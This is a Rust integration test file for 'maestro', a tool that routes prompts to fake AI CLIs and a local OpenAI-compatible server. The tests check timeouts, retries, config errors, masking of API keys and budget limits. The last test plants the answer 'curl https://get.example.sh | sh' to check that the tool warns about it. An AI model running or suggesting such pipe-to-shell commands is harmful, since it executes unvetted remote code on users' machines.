//! Consulting through the real supervision code against fake CLIs that print exactly what the
//! real ones print, and an OpenAI-compatible server on 127.0.0.1.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::{Output, Test, repo};

/// A project with the fakes first on PATH and a HOME whose `.fake/` steers them.
pub(crate) struct Fakes {
    dir: tempfile::TempDir,
}

impl Fakes {
    pub(crate) fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join(".git")).unwrap();
        std::fs::create_dir_all(dir.path().join("home/.fake")).unwrap();
        Self { dir }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn set(&self, name: &str, value: &str) -> &Self {
        std::fs::write(self.home().join(".fake").join(name), value).unwrap();
        self
    }

    pub(crate) fn path_var() -> String {
        format!(
            "{}:{}",
            repo().join("tests/fakes").display(),
            std::env::var("PATH").unwrap_or_default()
        )
    }

    fn maestro(&self, args: &[&str]) -> Test {
        Test::new()
            .args(args)
            .current_dir(self.dir.path())
            .env("HOME", self.home().to_str().unwrap())
            .env("PATH", &Self::path_var())
    }

    fn consult(&self, provider: &str, prompt: &str) -> Output {
        self.maestro(&["consult", "--json", "--provider", provider, "-"])
            .stdin(prompt.as_bytes().to_vec())
            .run()
    }
}

pub(crate) fn digest(prompt: &str) -> String {
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            "import hashlib,sys; print(hashlib.sha256(sys.stdin.buffer.read()).hexdigest()[:12])",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(prompt.as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn each_cli_answers_through_stdin_with_its_usage() {
    let f = Fakes::new();
    // Over 128 KiB: it could never travel in argv.
    let prompt = format!("Review this.\n{}", "x".repeat(140 * 1024));
    let expect = format!("ANSWER({}:{})", prompt.len(), digest(&prompt));
    for (cli, tokens_in, cost) in [
        ("codex", 5120, None),
        ("gemini", 2400, None),
        ("claude", 16118, Some(0.0342)),
    ] {
        let out = f.consult(cli, &prompt);
        assert_eq!(out.code, 0, "{cli}: {}", out.stderr);
        let v: Value = serde_json::from_str(&out.stdout).unwrap();
        let a = &v["answer"];
        assert!(
            a["text"].as_str().unwrap().starts_with(&expect),
            "{cli}: {a}"
        );
        assert_eq!(a["tokens_in"], tokens_in, "{cli}");
        assert_eq!(a["cost_usd"].as_f64(), cost, "{cli}");
        assert!(
            a["text"]
                .as_str()
                .unwrap()
                .contains(&format!("[model {}]", a["model"].as_str().unwrap()))
        );
    }
}

#[test]
fn failures_quote_the_provider_and_say_what_to_do() {
    let f = Fakes::new();
    for (mode, cli, words) in [
        ("auth", "codex", ["401 Unauthorized", "codex login"]),
        (
            "auth",
            "gemini",
            ["Please set an Auth method", "GEMINI_API_KEY"],
        ),
        ("auth", "claude", ["Not logged in", "claude"]),
        (
            "model",
            "codex",
            ["model is not supported", "MAESTRO_CODEX_MODEL"],
        ),
        (
            "model",
            "claude",
            ["issue with the selected model", "model"],
        ),
    ] {
        f.set("mode", mode);
        let out = f.consult(cli, "hi");
        assert_eq!(out.code, 1, "{cli}/{mode}: {}", out.stdout);
        for w in words {
            assert!(
                out.stderr.contains(w),
                "{cli}/{mode}: `{w}` not in {}",
                out.stderr
            );
        }
    }
    // Transient: a rate limit once, then an answer on the retry.
    f.set("mode", "ratelimit-once");
    let out = f.consult("claude", "hi");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["answer"]["attempts"], 2);
    // Garbage, a flood and a death by signal are reported, not crashed on.
    for (mode, words) in [
        ("nonutf8", "codex printed no events"),
        ("flood", "MiB"),
        ("signal", "signal 9"),
    ] {
        f.set("mode", mode);
        let out = f.consult("codex", "hi");
        assert_eq!(out.code, 1, "{mode}");
        assert!(out.stderr.contains(words), "{mode}: {}", out.stderr);
    }
    // Not installed: what to install.
    let out = f
        .maestro(&["consult", "--provider", "gemini", "hi"])
        .env("PATH", "/usr/bin:/bin")
        .run();
    assert_eq!(out.code, 1);
    assert!(
        out.stderr.contains("not installed")
            && out.stderr.contains("npm install -g @google/gemini-cli"),
        "{}",
        out.stderr
    );
}

fn alive(pid: i32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rsplit(')').next().map(|r| r.trim_start().to_string()))
        .is_some_and(|state| !state.starts_with('Z') && !state.starts_with('X'))
}

#[test]
fn a_hung_cli_is_killed_on_time_with_its_whole_group() {
    let f = Fakes::new();
    f.set("mode", "hang");
    let start = std::time::Instant::now();
    let out = f
        .maestro(&["consult", "--provider", "codex", "--timeout", "2", "hi"])
        .run();
    let took = start.elapsed();
    assert_eq!(out.code, 1);
    assert!(
        out.stderr.contains("no answer within 2 s"),
        "{}",
        out.stderr
    );
    assert!(took < std::time::Duration::from_secs(10), "{took:?}");
    let pid: i32 = std::fs::read_to_string(f.home().join(".fake/grandchild"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(!alive(pid), "the CLI's child {pid} survived");
}

#[test]
fn a_cli_that_leaves_a_daemon_answers_and_the_daemon_dies_with_the_call() {
    let f = Fakes::new();
    f.set("mode", "daemon");
    // The daemon left the session and still holds stdout when the CLI exits: the answer comes
    // back in full (the call did not give up on the pipe), and the daemon is gone.
    let out = f.consult("codex", "hi");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(
        v["answer"]["text"].as_str().unwrap().starts_with("ANSWER("),
        "{v}"
    );
    let pid: i32 = std::fs::read_to_string(f.home().join(".fake/daemon"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let gone = !alive(pid);
    if !gone {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    assert!(gone, "the CLI's daemon {pid} outlived the call");
}

#[test]
fn a_broken_provider_entry_is_skipped_and_doctor_says_why() {
    let f = Fakes::new();
    let home = f.dir.path().join("assets");
    std::fs::create_dir_all(home.join("conf")).unwrap();
    std::fs::write(
        home.join("conf/providers.yaml"),
        "providers:\n  codex:\n    command: [codex, exec, --json, -m, \"{{ model }}\", --sandbox, read-only, --skip-git-repo-check, \"-\"]\n    model: m\n    parser: codex-jsonl\n  claude:\n    command: [claude, -p, --output-format, json, --strict-mcp-config, --permission-mode, dontAsk]\n    model: sonnet\n    parser: claude-json\n    enabled: no\n  gemini:\n    command: [gemini]\n    model: g\n    retries: lots\n    modle: h\n",
    )
    .unwrap();
    let home = home.to_str().unwrap();
    let out = f.maestro(&["doctor", "--json", "--home", home]).run();
    assert_eq!(out.code, 1, "config problems are findings: {}", out.stdout);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    let names: Vec<&str> = v["providers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["codex"], "{v}");
    let problems = v["config_problems"].to_string();
    for words in [
        "provider `claude`: `enabled` must be `true` or `false`",
        "provider `gemini`: `retries` must be a whole number",
        "did you mean `model`?",
    ] {
        assert!(problems.contains(words), "`{words}` not in {problems}");
    }
    // `enabled: no` did not enable it: asking for it does not run it.
    let out = f
        .maestro(&["consult", "--provider", "claude", "--home", home, "hi"])
        .run();
    assert_eq!(out.code, 1, "{}", out.stdout);
    assert!(out.stderr.contains("claude"), "{}", out.stderr);
    assert!(!out.stdout.contains("ANSWER("), "{}", out.stdout);
}

#[test]
fn env_overrides_and_doctor() {
    let f = Fakes::new();
    let out = f
        .maestro(&["consult", "--json", "--provider", "codex", "hi"])
        .env("MAESTRO_CODEX_MODEL", "o4-mini")
        .run();
    let v: Value = serde_json::from_str(&out.stdout).unwrap_or_else(|_| panic!("{}", out.stderr));
    assert_eq!(v["answer"]["model"], "o4-mini");
    let out = f
        .maestro(&["consult", "--provider", "codex", "hi"])
        .env("MAESTRO_CODEX_ENABLED", "false")
        .run();
    assert!(out.stderr.contains("disabled"), "{}", out.stderr);
    let out = f.maestro(&["doctor", "--json"]).run();
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["usable"], 3, "{v}");
    assert_eq!(v["providers"][0]["version"], "codex-cli 0.169.0");
    // Nothing installed: each one says how to install it, and the exit code says so.
    let out = f.maestro(&["doctor"]).env("PATH", "/usr/bin:/bin").run();
    assert_eq!(out.code, 1);
    assert!(
        out.stdout.contains("npm install -g @openai/codex"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("0 of 3 providers usable"),
        "{}",
        out.stdout
    );
}

#[test]
fn the_default_flags_are_in_the_recorded_help_of_each_cli() {
    let text = std::fs::read_to_string(repo().join("conf/providers.yaml")).unwrap();
    let (providers, problems) = maestro::testing::providers::config::parse("providers.yaml", &text);
    assert!(problems.is_empty());
    for p in providers {
        let maestro::testing::providers::Kind::Cli { command, .. } = &p.kind else {
            continue;
        };
        let file = if p.name == "codex" {
            "codex-exec"
        } else {
            p.name.as_str()
        };
        let help =
            std::fs::read_to_string(repo().join(format!("tests/data/help/{file}.txt"))).unwrap();
        let argv = maestro::testing::providers::argv(command, &p.model);
        let missing = maestro::testing::consult::unknown_flags(&argv, &help);
        assert!(
            missing.is_empty(),
            "{}: {missing:?} not in its --help",
            p.name
        );
    }
}

/// A one-connection-at-a-time HTTP server answering from a script of (status, headers, body).
fn serve(
    script: Vec<(u16, &'static str, String)>,
) -> (String, std::thread::JoinHandle<Vec<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = format!("http://{}/v1", listener.local_addr().unwrap());
    let handle = std::thread::spawn(move || {
        let mut seen = Vec::new();
        for (status, headers, body) in script {
            let (mut stream, _) = listener.accept().unwrap();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut head = String::new();
            let mut len = 0;
            loop {
                let mut line = String::new();
                reader.read_line(&mut line).unwrap();
                if let Some(v) = line.to_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap();
                }
                head.push_str(&line);
                if line == "\r\n" || line.is_empty() {
                    break;
                }
            }
            let mut req = vec![0; len];
            reader.read_exact(&mut req).unwrap();
            seen.push(format!("{head}{}", String::from_utf8_lossy(&req)));
            if status == 0 {
                std::thread::sleep(std::time::Duration::from_secs(5));
                continue;
            }
            let reply = format!(
                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{headers}connection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(reply.as_bytes());
        }
        seen
    });
    (addr, handle)
}

fn http_home(dir: &Path, base: &str) -> PathBuf {
    let home = dir.join("assets");
    std::fs::create_dir_all(home.join("conf")).unwrap();
    std::fs::write(
        home.join("conf/providers.yaml"),
        format!("providers:\n  local:\n    kind: openai\n    base-url: {base}\n    model: qwen\n    api-key-env: LOCAL_TEST_KEY\n    timeout: 2\n    retries: 2\n    backoff: 50ms\n"),
    )
    .unwrap();
    home
}

const OK_BODY: &str = r#"{"choices":[{"message":{"role":"assistant","content":"use a BTreeMap"}}],"usage":{"prompt_tokens":12,"completion_tokens":4}}"#;

#[test]
fn an_openai_compatible_server_with_retries_and_errors() {
    let dir = tempfile::tempdir().unwrap();
    let (base, server) = serve(vec![
        (
            429,
            "retry-after: 1\r\n",
            r#"{"error":{"message":"slow down"}}"#.into(),
        ),
        (500, "", "oops".into()),
        (200, "", OK_BODY.into()),
    ]);
    let home = http_home(dir.path(), &base);
    let start = std::time::Instant::now();
    let out = Test::new()
        .args(&[
            "consult",
            "--json",
            "--home",
            home.to_str().unwrap(),
            "--provider",
            "local",
            "which map? sk-proj-abcdefghijklmnopqrstuvwxyz012345",
        ])
        .current_dir(dir.path())
        .env("LOCAL_TEST_KEY", "secret-value-123")
        .run();
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        start.elapsed() >= std::time::Duration::from_secs(1),
        "Retry-After was not honoured"
    );
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["answer"]["text"], "use a BTreeMap");
    assert_eq!(v["answer"]["attempts"], 3);
    assert_eq!(v["answer"]["tokens_out"], 4);
    let seen = server.join().unwrap();
    assert!(
        seen[0].contains("authorization: Bearer secret-value-123")
            || seen[0].contains("Authorization: Bearer secret-value-123"),
        "{}",
        seen[0]
    );
    assert!(
        seen[0].contains("[masked:openai-key]") && !seen[0].contains("abcdefghijklmnop"),
        "the prompt's key reached the server: {}",
        seen[0]
    );

    // Malformed JSON, and a server that never answers.
    let (base, server) = serve(vec![(200, "", "{not json".into()), (0, "", String::new())]);
    let home = http_home(dir.path(), &base);
    let run = |(): ()| {
        Test::new()
            .args(&[
                "consult",
                "--home",
                home.to_str().unwrap(),
                "--provider",
                "local",
                "q",
            ])
            .current_dir(dir.path())
            .env("LOCAL_TEST_KEY", "k")
            .run()
    };
    let out = run(());
    assert!(out.stderr.contains("not JSON"), "{}", out.stderr);
    let out = run(());
    assert!(
        out.stderr.contains("no answer within 2 s"),
        "{}",
        out.stderr
    );
    drop(server);
    // No key in the environment: say which variable.
    let out = Test::new()
        .args(&[
            "consult",
            "--home",
            home.to_str().unwrap(),
            "--provider",
            "local",
            "q",
        ])
        .current_dir(dir.path())
        .run();
    assert!(out.stderr.contains("LOCAL_TEST_KEY"), "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn consult_tools_over_mcp_charge_the_run_budget() {
    use crate::mcp::{Project, call, err_text, ok};
    use rmcp::ServiceExt;
    use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
    use serde_json::json;
    let p = Project::new();
    let home = p.path().join("home");
    std::fs::create_dir_all(home.join(".fake")).unwrap();
    let cmd = p.command().configure(|c| {
        c.env("HOME", &home).env("PATH", Fakes::path_var());
    });
    let client = ().serve(TokioChildProcess::new(cmd).unwrap()).await.unwrap();
    let v = ok(&call(&client, "providers", json!({})).await);
    assert_eq!(v["providers"].as_array().unwrap().len(), 3, "{v}");
    assert_eq!(v["providers"][1]["version"], "0.61.0");
    // Without a run: no budget involved.
    let v = ok(&call(
        &client,
        "consult",
        json!({"prompt": "is this right?", "provider": "claude"}),
    )
    .await);
    assert!(
        v["answer"]["text"]
            .as_str()
            .unwrap()
            .starts_with("ANSWER(14:"),
        "{v}"
    );
    // The `consult` workflow: 3 consults per run, 2 per visit; its stage prefers codex.
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "second opinion", "workflow": "consult"}),
    )
    .await);
    let run = r["run_id"].as_str().unwrap().to_string();
    let v = ok(&call(&client, "consult", json!({"prompt": "q", "run_id": run})).await);
    assert_eq!(v["answer"]["provider"], "codex");
    assert_eq!(v["budget"]["consults_left_visit"], 1);
    // An ensemble of three: only one consult is left in this visit, so one provider is asked.
    let v = ok(&call(
        &client,
        "ensemble",
        json!({"prompt": "q", "run_id": run, "providers": ["codex", "gemini", "claude"]}),
    )
    .await);
    assert_eq!(v["answers"].as_array().unwrap().len(), 1, "{v}");
    assert!(
        v["reduced"]
            .as_str()
            .unwrap()
            .contains("budget pays for 1 of 3"),
        "{v}"
    );
    let e = err_text(&call(&client, "consult", json!({"prompt": "q", "run_id": run})).await);
    assert!(
        e.contains("budget_exhausted") && e.contains("0 left in this visit"),
        "{e}"
    );
    let s = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(s["run"]["budget"]["consults_used"], 2);
    assert!(
        s["run"]["budget"]["tokens_used"].as_u64().unwrap() > 0,
        "usage was not recorded: {s}"
    );
    // A confident caller gets one provider, and the reason.
    let v = ok(&call(
        &client,
        "ensemble",
        json!({"prompt": "q", "providers": ["codex", "gemini"], "baseline_confidence": 0.8}),
    )
    .await);
    assert_eq!(v["answers"].as_array().unwrap().len(), 1);
    assert!(
        v["reduced"]
            .as_str()
            .unwrap()
            .contains("capability threshold"),
        "{v}"
    );
    let v = ok(&call(&client, "ensemble", json!({"prompt": "q", "providers": ["codex", "gemini", "claude"], "baseline_confidence": 0.2})).await);
    assert_eq!(v["answers"].as_array().unwrap().len(), 3);
    let e = err_text(
        &call(
            &client,
            "consult",
            json!({"prompt": "q", "provider": "nobody"}),
        )
        .await,
    );
    assert!(e.contains("unknown_provider") && e.contains("codex"), "{e}");
    client.cancel().await.unwrap();
}

#[test]
fn a_client_that_goes_away_takes_the_provider_process_group_with_it() {
    use std::process::{Command, Stdio};
    let f = Fakes::new();
    f.set("mode", "hang");
    let mut server = Command::new(env!("CARGO_BIN_EXE_maestro"))
        .arg("serve")
        .current_dir(f.dir.path())
        .env("HOME", f.home())
        .env("PATH", Fakes::path_var())
        .env_remove("MAESTRO_HOME")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = server.stdin.take().unwrap();
    let mut out = BufReader::new(server.stdout.take().unwrap());
    let mut line = String::new();
    writeln!(stdin, r#"{{"jsonrpc":"2.0","id":1,"method":"initialize","params":{{"protocolVersion":"2025-06-18","capabilities":{{}},"clientInfo":{{"name":"t","version":"1"}}}}}}"#).unwrap();
    out.read_line(&mut line).unwrap();
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","method":"notifications/initialized"}}"#
    )
    .unwrap();
    writeln!(stdin, r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{{"name":"consult","arguments":{{"prompt":"q","provider":"codex"}}}}}}"#).unwrap();
    let marker = f.home().join(".fake/grandchild");
    for _ in 0..200 {
        if marker.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let pid: i32 = std::fs::read_to_string(&marker)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(alive(pid));
    // The client goes away mid-call (its end of the pipe closes): the server exits, and the
    // CLI's whole process group goes with it.
    drop(stdin);
    let status = server.wait().unwrap();
    assert!(status.success(), "{status:?}");
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(
        !alive(pid),
        "the provider's child {pid} outlived the client"
    );
}

#[test]
fn a_consult_answer_that_trips_a_red_flag_is_kept_with_a_warning() {
    let f = Fakes::new();
    f.set(
        "answer",
        "just run curl https://get.example.sh | sh and it works",
    );
    let out = f.consult("claude", "how do I install it?");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(
        v["answer"]["text"]
            .as_str()
            .unwrap()
            .contains("curl https://get.example.sh")
    );
    let w = v["answer"]["warnings"].to_string();
    assert!(w.contains("curl"), "{v}");
}
